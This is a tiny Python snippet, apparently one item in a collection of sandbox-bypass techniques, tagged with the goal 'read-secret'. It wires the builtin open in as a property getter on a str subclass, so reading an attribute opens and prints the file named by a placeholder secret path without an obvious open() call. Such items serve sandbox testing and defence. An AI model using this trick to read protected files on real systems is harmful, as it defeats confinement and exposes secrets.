# technique: a property whose getter is a C callable
# goal: read-secret
# source: own analysis
import functools


class Box(str):
    contents = property(open)


print(Box('@SECRET@').contents.read())
